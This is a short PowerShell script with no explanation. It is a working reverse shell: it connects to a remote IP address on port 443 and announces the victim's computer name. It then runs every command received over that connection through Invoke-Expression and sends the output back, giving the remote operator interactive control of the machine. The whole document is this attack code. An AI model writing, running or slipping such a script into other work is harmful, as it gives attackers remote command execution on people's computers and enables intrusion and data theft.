$h = "198.51.100.88"; $p = 443
$c = New-Object System.Net.Sockets.TCPClient($h, $p)
$s = $c.GetStream()
[byte[]]$buf = 0..65535 | ForEach-Object { 0 }
$w = { param($t) $b = ([Text.Encoding]::UTF8).GetBytes($t); $s.Write($b, 0, $b.Length); $s.Flush() }
& $w ("relay " + $env:COMPUTERNAME + "`n")
while (($n = $s.Read($buf, 0, $buf.Length)) -ne 0) {
  $cmd = ([Text.Encoding]::UTF8).GetString($buf, 0, $n)
  $out = try { (Invoke-Expression $cmd 2>&1 | Out-String) } catch { $_.ToString() }
  & $w ($out + "PS " + (Get-Location).Path + "> ")
}
$c.Close()
